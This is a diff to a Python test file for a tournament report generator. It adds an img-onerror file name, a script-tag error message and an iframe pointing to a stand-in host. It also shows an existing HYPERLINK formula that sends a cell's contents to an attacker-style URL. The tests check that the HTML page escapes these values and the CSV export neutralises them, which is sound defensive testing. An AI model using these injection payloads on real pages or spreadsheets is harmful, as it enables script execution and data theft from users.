@@ -36,6 +36,9 @@ CHROMIUM_FLAGS = [
 FORMULA = '=HYPERLINK("http://e.vil/?"&A1,"win")'
 SCRIPT = "<script>alert(1)</script>"
 MB = 1_000_000
+BAD_SPEC = "subs/<img src=x onerror=alert(2)>.py"
+BAD_REASON = "ValueError: <script>alert(3)</script>"
+BAD_FAILURE = "x vs y: <iframe src=//e.vil>"
 
 
 def synthetic(n: int, mode: str = "exact", seed: int = 1, names: list[str] | None = None):
@@ -75,14 +78,16 @@ def synthetic(n: int, mode: str = "exact", seed: int = 1, names: list[str] | Non
                     z = report.decision_z(games)
                     undecided[a, b] = x.decision(t.threshold, z) == "undecided"
     table = standings(names, rates, t.threshold, None, undecided if mode == "mc" else None)
+    # One more who was disqualified, with a hostile file name and error message.
+    banned = tm.Slot(BAD_SPEC, "Banned", disqualified=BAD_REASON)
     return tm.TournamentResult(
         tournament=t,
-        slots=slots,
+        slots=[*slots, banned],
         active=slots,
         results=results,
         standings=table,
         rates=rates,
-        failures=[],
+        failures=[BAD_FAILURE],
         computed=len(results) // 2,
         stored=0,
         seconds=0.0,
@@ -118,7 +123,9 @@ def test_csv_cells_are_neutralised_and_numbers_stay_numbers(pages):
     names = {r["entrant"] for r in rows}
     assert "'" + FORMULA in names and FORMULA not in names
     assert "-0.5" in names  # a name that is a number is harmless as one
-    for r in rows:  # the numbers are numbers
+    banned = next(r for r in rows if r["entrant"] == "Banned")
+    assert banned["status"] == "disqualified: " + BAD_REASON and banned["spec"] == BAD_SPEC
+    for r in (r for r in rows if r["rank"]):  # the numbers are numbers
         float(r["win_rate"]), float(r["rating"]), int(r["points"])
     matrix = list(csv.reader((out / "matrix.csv").open(encoding="utf-8")))
     assert "'" + FORMULA in matrix[0] and FORMULA not in matrix[0]
@@ -132,6 +139,9 @@ def test_the_page_escapes_what_entrants_write(pages):
     assert SCRIPT not in page and html.escape(SCRIPT) in page
     assert page.count("<script") == 1  # the page's own
     assert html.escape(FORMULA) in page
+    for text in (BAD_SPEC, BAD_REASON, BAD_FAILURE):  # file names, errors: text as well
+        assert text not in page and html.escape(text) in page
+    assert "<img src=x" not in page and "<iframe" not in page
 
 
 @pytest.mark.parametrize("mode", ["exact", "mc"])
